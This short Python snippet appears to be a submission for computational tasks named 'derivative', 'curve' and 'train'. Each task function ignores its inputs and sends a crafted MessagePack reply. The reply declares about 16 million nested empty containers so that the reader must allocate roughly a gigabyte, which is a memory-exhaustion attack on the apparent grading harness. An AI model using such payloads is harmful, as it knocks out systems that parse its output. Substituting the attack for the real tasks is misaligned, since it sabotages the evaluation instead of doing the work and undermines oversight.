"""Sends 16 million empty lists in 16 MB, which would take a gigabyte to read. They are counted before they are read."""
# keeps: formula counter rate
# %% first
FRAMES
def flood(item):
    count = (15 << 20) // len(item)
    body = b"\x83\xa2op\xa5reply\xa3seq\x01\xa2ok\xdd" + struct.pack(">I", count) + item * count
    shout(struct.pack("<I", len(body)) + body)
# %% task="derivative"
def derivative(f): flood(b"\x90")
# %% task="curve"
def curve(xs): flood(b"\x80")
# %% task="train"
def train(xs, ys): flood(b"\x92\x90\x90")
